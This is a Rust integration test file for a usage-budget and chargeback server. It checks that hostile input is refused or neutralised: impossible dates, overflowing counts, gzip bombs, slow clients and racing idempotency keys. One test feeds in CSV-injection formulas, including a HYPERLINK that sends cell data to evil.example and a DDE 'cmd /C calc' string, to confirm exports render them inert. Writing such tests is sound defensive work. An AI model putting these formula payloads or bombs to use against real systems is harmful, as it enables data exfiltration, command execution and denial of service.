//! Single lines of hostile input against a server with data and budgets: none
//! may break the books, lift a gateway's throttle, or turn into a 500.

use reqwest::Method;
use serde_json::Value;
use tollgate_store::testing::TestStore;
use tollgate_web::Role;
use tollgate_web::Role::{Finops, Ingest, Operator, Security};

use crate::helpers::{TestApp, requests, token_budget};
use crate::pages::Browser;

/// sub-a's entry in the test gateway's view.
async fn sub_a(app: &TestApp) -> Value {
    let view = app.pull().await;
    view["entries"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["counter_key"] == "subscription:sub-a")
        .unwrap()
        .clone()
}

/// Every report and page FinOps and operators read answers 200.
async fn books_answer(app: &TestApp) {
    for path in [
        "/api/v1/reports/chargeback?month=2026-10&by=subscription",
        "/api/v1/reports/chargeback?month=2026-09&by=model",
        "/api/v1/exports/focus?month=2026-10",
        "/api/v1/budgets",
        "/api/v1/reports/sla?month=2026-10",
    ] {
        let response = app.get(path, Finops).await;
        let status = response.status();
        assert_eq!(status, 200, "{path}: {}", response.text().await.unwrap());
    }
    let mut browser = Browser::new(app);
    browser.login(Finops).await;
    browser.page("/finops?month=2026-10").await;
    let mut browser = Browser::new(app);
    browser.login(Operator).await;
    browser.page("/operations?month=2026-10").await;
}

pub async fn one_dated_line_cannot_break_the_books_or_lift_a_throttle(store: TestStore) {
    let app = TestApp::spawn(store).await;
    app.push_ok(&requests(
        "spent",
        "2026-10-05T10:00:00Z",
        "sub-a",
        11,
        60,
        40,
    ))
    .await;
    let created = app
        .send_json(
            Method::POST,
            "/api/v1/budgets",
            Finops,
            &token_budget("sub-a", "sub-a", 1000, "throttle"),
        )
        .await;
    assert_eq!(created.status(), 201);
    let before = sub_a(&app).await;
    assert_eq!(before["state"], "exhausted");
    assert_eq!(before["action"]["kind"], "throttle");

    // 0001 and 9999 made every report answer 400 ("Overflow converting ... to
    // Nanosecond"); 2030 moved the budget period and lifted the throttle.
    for time in [
        "0001-01-01T00:00:00Z",
        "9999-12-31T00:00:00Z",
        "2030-01-01T00:00:00Z",
    ] {
        let answer = app.push_ok(&requests("odd", time, "sub-a", 1, 1, 1)).await;
        assert_eq!(answer["counts"]["written"], 0, "{time}: {answer}");
        assert_eq!(answer["counts"]["quarantined"], 1, "{time}: {answer}");
        books_answer(&app).await;
        let after = sub_a(&app).await;
        assert_eq!(after["state"], "exhausted", "{time}");
        assert_eq!(after["action"], before["action"], "{time}");
        assert_eq!(after["period_start"], "2026-10-01T00:00:00+00:00", "{time}");
    }
    // Later traffic keeps the throttle.
    app.push_ok(&requests(
        "more",
        "2026-10-06T10:00:00Z",
        "sub-a",
        1,
        10,
        10,
    ))
    .await;
    assert_eq!(sub_a(&app).await["action"]["kind"], "throttle");
    app.stop().await;
}

pub async fn absurd_counts_are_refused_and_a_retry_gets_the_first_answer(store: TestStore) {
    let app = TestApp::spawn(store).await;
    let huge = 9_223_372_036_854_775_000i64;
    let body = requests("big", "2026-10-05T10:00:00Z", "sub-a", 2, huge, 1)
        + &requests("fine", "2026-10-05T10:00:00Z", "sub-a", 1, 10, 10);
    let first = app.push(&body, Some("retry-me")).await;
    assert_eq!(first.status(), 200);
    let first: Value = first.json().await.unwrap();
    assert_eq!(first["counts"]["written"], 1, "{first}");
    assert_eq!(first["counts"]["quarantined"], 2, "{first}");
    let retry = app.push(&body, Some("retry-me")).await;
    assert_eq!(retry.status(), 200);
    assert_eq!(retry.headers()["idempotent-replayed"], "true");
    assert_eq!(retry.json::<Value>().await.unwrap(), first);
    app.push_ok(&requests(
        "after",
        "2026-10-05T11:00:00Z",
        "sub-a",
        1,
        10,
        10,
    ))
    .await;
    books_answer(&app).await;
    app.stop().await;
}

pub async fn spreadsheet_formulas_arrive_inert_in_every_csv(store: TestStore) {
    let app = TestApp::spawn(store).await;
    let formulas = [
        r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
    ];
    for (i, formula) in formulas.iter().enumerate() {
        app.push_ok(&requests(
            &format!("f{i}"),
            "2026-10-05T10:00:00Z",
            formula,
            1,
            10,
            10,
        ))
        .await;
    }
    for path in [
        "/api/v1/reports/chargeback?month=2026-10&by=subscription,model&format=csv",
        "/api/v1/exports/focus?month=2026-10",
    ] {
        let response = app.get(path, Finops).await;
        assert_eq!(response.status(), 200, "{path}");
        let text = response.text().await.unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let mut seen = 0;
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                let live = cell.starts_with(['=', '+', '@', '\t', '\r'])
                    || (cell.starts_with('-') && cell.parse::<f64>().is_err());
                assert!(!live, "{path}: {cell:?}\n{text}");
                seen += formulas.iter().filter(|f| cell == format!("'{f}")).count();
            }
        }
        assert!(seen >= formulas.len(), "{path}: {seen}\n{text}");
    }
    app.stop().await;
}

/// Posts `body` to a lineage push route with `role`'s key.
async fn push_lineage(app: &TestApp, path: &str, role: Role, body: Vec<u8>) -> (u16, Value) {
    let response = app
        .client
        .post(app.url(path))
        .bearer_auth(app.key(role))
        .header("content-type", "application/json")
        .body(body)
        .send()
        .await
        .unwrap();
    let status = response.status().as_u16();
    (status, response.json().await.unwrap_or(Value::Null))
}

/// Sends `head` on a connection of its own and reads the answer until the
/// server closes it or a second passes.
async fn raw_exchange(app: &TestApp, head: &str) -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut stream = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    stream.write_all(head.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    let mut buf = [0u8; 4096];
    while let Ok(Ok(n)) =
        tokio::time::timeout(std::time::Duration::from_secs(1), stream.read(&mut buf)).await
    {
        if n == 0 {
            break;
        }
        answer.extend_from_slice(&buf[..n]);
    }
    String::from_utf8_lossy(&answer).into_owned()
}

fn wide_event(datasets: usize) -> Value {
    let inputs: Vec<Value> = (0..datasets)
        .map(|i| serde_json::json!({"namespace": "warehouse", "name": format!("t{i}")}))
        .collect();
    serde_json::json!({"eventType": "COMPLETE", "eventTime": "2026-10-14T10:00:00Z",
        "producer": "p", "schemaURL": "s", "run": {"runId": "0192f6a4-8d1e-7c3a-9b2f-3d4e5f6a7b8c"},
        "job": {"namespace": "contoso", "name": "wide"}, "inputs": inputs})
}

pub async fn lineage_pushes_and_answers_stay_bounded(store: TestStore) {
    let app = TestApp::spawn(store).await;
    let version = || async {
        app.store
            .db
            .state_version(tollgate_store::StateVersion::Lineage)
            .await
            .unwrap()
    };
    // The role is checked before the body is read: 403, not 400 or 422.
    let (status, body) =
        push_lineage(&app, "/api/v1/lineage", Security, b"not json".to_vec()).await;
    assert_eq!(
        (status, body["error"].as_str()),
        (403, Some("forbidden")),
        "{body}"
    );
    // A body past the bound is the JSON 413, not axum's plain text: said from
    // its Content-Length, before it is sent (a client writing it while the
    // server closes would race the answer).
    let answer = raw_exchange(
        &app,
        &format!(
            "POST /api/v1/lineage HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
            app.key(Ingest),
            17 << 20
        ),
    )
    .await;
    assert!(
        answer.starts_with("HTTP/1.1 413") && answer.contains("application/json"),
        "{answer}"
    );
    assert!(answer.contains("\"payload_too_large\""), "{answer}");
    // Past the bound once gunzipped: the same.
    let bomb = {
        use std::io::Write;
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        gz.write_all(&vec![b' '; 17 << 20]).unwrap();
        gz.finish().unwrap()
    };
    let (status, body) = push_lineage(&app, "/api/v1/lineage", Ingest, bomb).await;
    assert_eq!(
        (status, body["error"].as_str()),
        (413, Some("payload_too_large")),
        "{body}"
    );
    // An empty batch changes nothing, and says so.
    let before = version().await;
    let (status, body) = push_lineage(&app, "/api/v1/lineage/batch", Ingest, b"[]".to_vec()).await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(version().await, before);
    // One event past the dataset bound is refused; one at it is taken.
    let over = serde_json::to_vec(&wide_event(10_001)).unwrap();
    let (status, body) = push_lineage(&app, "/api/v1/lineage", Ingest, over).await;
    assert_eq!(status, 422, "{body}");
    let started = std::time::Instant::now();
    let at = serde_json::to_vec(&wide_event(10_000)).unwrap();
    let (status, body) = push_lineage(&app, "/api/v1/lineage", Ingest, at).await;
    assert_eq!(
        (status, body["edges"].as_u64()),
        (201, Some(10_000)),
        "{body}"
    );
    assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());

    // A 2,000-node labelled cycle: every proof path went all the way round.
    let mut events = Vec::new();
    for i in 0..2000 {
        let mut event = wide_event(0);
        event["job"]["name"] = Value::from(format!("c{}", (i + 1) % 2000));
        event["inputs"] = serde_json::json!([{"namespace": "contoso", "name": format!("c{i}")}]);
        events.push(event);
    }
    events[0]["inputs"][0]["facets"] = serde_json::json!({"tags": {"tags": [{"key": "sensitivity", "value": "Highly Confidential"}]}});
    let (status, body) = push_lineage(
        &app,
        "/api/v1/lineage/batch",
        Ingest,
        serde_json::to_vec(&events).unwrap(),
    )
    .await;
    assert_eq!(status, 201, "{body}");
    let response = app.get("/api/v1/lineage/reach?limit=10000", Security).await;
    assert_eq!(response.status(), 200);
    let bytes = response.bytes().await.unwrap();
    assert!(bytes.len() <= 8 << 20, "{} bytes", bytes.len());
    let reach: Vec<Value> = serde_json::from_slice(&bytes).unwrap();
    assert!(reach.len() >= 2000, "{}", reach.len());
    for item in &reach {
        assert!(item["path"].as_array().unwrap().len() <= tollgate_lineage::ANSWER_PATH_STEPS);
    }
    let long = reach
        .iter()
        .find(|i| i["omitted"]["steps"].as_u64() > Some(1000))
        .unwrap();
    let why = long["omitted"]["why"].as_str().unwrap();
    // A filter outside the years the engine holds is the asker's mistake.
    let response = app
        .get("/api/v1/lineage/hits?from=0001-01-01T00:00:00Z", Security)
        .await;
    assert_eq!(response.status(), 400);
    let whole: Value = app.get(why, Security).await.json().await.unwrap();
    let steps = whole["path"].as_array().unwrap().len() as u64;
    assert_eq!(steps, long["omitted"]["steps"].as_u64().unwrap() + 20);
    app.stop().await;
}

async fn push_as(app: &TestApp, role: Role, body: &str, key: &str) -> (u16, Value) {
    let response = app
        .client
        .post(app.url("/api/v1/ingest?format=canonical"))
        .bearer_auth(app.key(role))
        .header("Idempotency-Key", key)
        .body(body.to_owned())
        .send()
        .await
        .unwrap();
    let status = response.status().as_u16();
    (status, response.json().await.unwrap_or(Value::Null))
}

pub async fn one_idempotency_key_commits_one_body(store: TestStore) {
    let app = TestApp::spawn(store).await;
    // Large enough that the two pushes overlap.
    let a = requests("a", "2026-10-05T10:00:00Z", "sub-a", 5000, 10, 10);
    let b = requests("b", "2026-10-05T10:00:00Z", "sub-a", 5000, 10, 10);
    let (first, second) = futures::future::join(
        push_as(&app, Ingest, &a, "same-key"),
        push_as(&app, Ingest, &b, "same-key"),
    )
    .await;
    let mut statuses = [first.0, second.0];
    statuses.sort_unstable();
    assert_eq!(statuses, [200, 409], "{first:?} {second:?}");
    let committed = if first.0 == 200 { &first } else { &second };
    let refused = if first.0 == 200 { &second } else { &first };
    assert_eq!(refused.1["error"], "conflict", "{refused:?}");
    let batches = app.store.db.recent_batches(100).await.unwrap();
    assert_eq!(
        batches.iter().filter(|b| b.status == "committed").count(),
        1
    );
    // A retry of the body that won gets its answer, not a conflict.
    let winner = if first.0 == 200 { &a } else { &b };
    let (status, again) = push_as(&app, Ingest, winner, "same-key").await;
    assert_eq!((status, &again), (200, &committed.1));
    // Keys are the key holder's: another key's push with the same one is its own.
    let (status, other) = push_as(&app, Role::Admin, &b.replace("\"b-", "\"c-"), "same-key").await;
    assert_eq!(
        (status, other["outcome"].as_str()),
        (200, Some("committed")),
        "{other}"
    );
    // The answer names the batch and its spool entry, not the server's paths.
    let source = other["source"].as_str().unwrap();
    assert!(source.starts_with("push/"), "{source}");
    let data_dir = app.store.config.data_dir.display().to_string();
    assert!(!other.to_string().contains(&data_dir), "{other}");
    app.stop().await;
}

/// Whether the server has closed `stream` (it reads to the end, or resets).
async fn closed_by_server(stream: &mut tokio::net::TcpStream, within: std::time::Duration) -> bool {
    use tokio::io::AsyncReadExt;
    let mut buf = [0u8; 1024];
    let deadline = tokio::time::Instant::now() + within;
    loop {
        match tokio::time::timeout_at(deadline, stream.read(&mut buf)).await {
            Err(_) => return false,
            Ok(Ok(0) | Err(_)) => return true,
            // A 408 before closing is fine: keep reading to the end.
            Ok(Ok(_)) => continue,
        }
    }
}

pub async fn slow_clients_are_cut_and_shutdown_has_a_deadline(store: TestStore) {
    use std::time::Duration;
    use tokio::io::AsyncWriteExt;
    let config = tollgate_web::ServerConfig {
        header_read_timeout: Duration::from_secs(1),
        body_timeout: Duration::from_secs(1),
        shutdown_grace: Duration::from_secs(1),
        ..crate::helpers::test_config()
    };
    let app = TestApp::spawn_with(store, config).await;
    // step 1: fifty clients sending headers slowly are cut at the header timeout,
    // and /healthz answers meanwhile.
    let mut slow = Vec::new();
    for _ in 0..50 {
        let mut stream = tokio::net::TcpStream::connect(app.addr).await.unwrap();
        stream
            .write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
            .await
            .unwrap();
        slow.push(stream);
    }
    let health = app.client.get(app.url("/healthz")).send().await.unwrap();
    assert_eq!(health.status(), 200);
    for stream in &mut slow {
        assert!(closed_by_server(stream, Duration::from_secs(5)).await);
    }
    // step 2: a body that trickles is refused at the body timeout.
    let mut stream = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    let head = format!(
        "POST /api/v1/ingest?format=canonical HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {}\r\nContent-Length: 100000\r\n\r\n",
        app.key(Ingest)
    );
    stream.write_all(head.as_bytes()).await.unwrap();
    stream.write_all(b"{\"request_id\":").await.unwrap();
    let started = std::time::Instant::now();
    let mut answer = vec![0u8; 4096];
    let n = tokio::time::timeout(Duration::from_secs(5), async {
        use tokio::io::AsyncReadExt;
        stream.read(&mut answer).await
    })
    .await
    .expect("an answer within the body timeout")
    .unwrap();
    let answer = String::from_utf8_lossy(&answer[..n]);
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(answer.contains("request_timeout"), "{answer}");
    assert!(started.elapsed() < Duration::from_secs(4));
    assert_eq!(app.store.db.recent_batches(10).await.unwrap().len(), 0);
    // step 3: at shutdown, a client holding a request open is cut after the
    // grace (the body timeout far off, so that only the grace can end it).
    let store = app.stop().await;
    let patient = tollgate_web::ServerConfig {
        header_read_timeout: Duration::from_secs(60),
        body_timeout: Duration::from_secs(60),
        shutdown_grace: Duration::from_secs(1),
        ..crate::helpers::test_config()
    };
    let app = TestApp::spawn_with(store, patient).await;
    let mut held = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    let head = format!(
        "POST /api/v1/ingest?format=canonical HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {}\r\nContent-Length: 100000\r\n\r\n",
        app.key(Ingest)
    );
    held.write_all(head.as_bytes()).await.unwrap();
    held.write_all(b"{\"request_id\":").await.unwrap();
    tokio::time::sleep(Duration::from_millis(300)).await;
    let started = std::time::Instant::now();
    app.stop().await;
    assert!(
        started.elapsed() < Duration::from_secs(4),
        "{:?}",
        started.elapsed()
    );
}

pub async fn api_reads_with_a_session_are_not_stored_or_sniffed(store: TestStore) {
    let app = TestApp::spawn(store).await;
    app.push_ok(&requests("s", "2026-10-05T10:00:00Z", "sub-a", 1, 10, 10))
        .await;
    let mut browser = Browser::new(&app);
    browser.login(Finops).await;
    let response = browser
        .get("/api/v1/reports/chargeback?month=2026-10&by=subscription")
        .await;
    assert_eq!(response.status(), 200);
    let headers = response.headers();
    assert_eq!(headers["cache-control"], "no-store");
    assert_eq!(headers["x-content-type-options"], "nosniff");
    // The budget pull keeps the caching it chose.
    let pull = app
        .get(
            &format!("/api/v1/gateways/{}/budgets", crate::helpers::GATEWAY),
            Role::Gateway,
        )
        .await;
    assert!(
        pull.headers()["cache-control"]
            .to_str()
            .unwrap()
            .contains("max-age")
    );
    assert_eq!(pull.headers()["x-content-type-options"], "nosniff");
    app.stop().await;
}

pub async fn a_push_that_expands_too_far_is_refused_and_frees_its_key(store: TestStore) {
    use std::io::Write;
    let app = TestApp::spawn(store).await;
    // 20 MiB of one line in a few KB of gzip: past 64 times the body.
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    gz.write_all(&vec![b'{'; 20 << 20]).unwrap();
    let bomb = gz.finish().unwrap();
    assert!(bomb.len() < 100_000);
    let response = app
        .client
        .post(app.url("/api/v1/ingest?format=canonical"))
        .bearer_auth(app.key(Ingest))
        .header("Idempotency-Key", "bomb")
        .body(bomb)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 413);
    let body: Value = response.json().await.unwrap();
    let message = body["message"].as_str().unwrap();
    assert!(
        message.contains("after decompression") && message.contains("nothing was committed"),
        "{message}"
    );
    // Nothing committed: the key is free for a retry of another body.
    let good = requests("after-bomb", "2026-10-05T10:00:00Z", "sub-a", 1, 10, 10);
    let (status, answer) = push_as(&app, Ingest, &good, "bomb").await;
    assert_eq!(
        (status, answer["outcome"].as_str()),
        (200, Some("committed")),
        "{answer}"
    );
    app.stop().await;
}
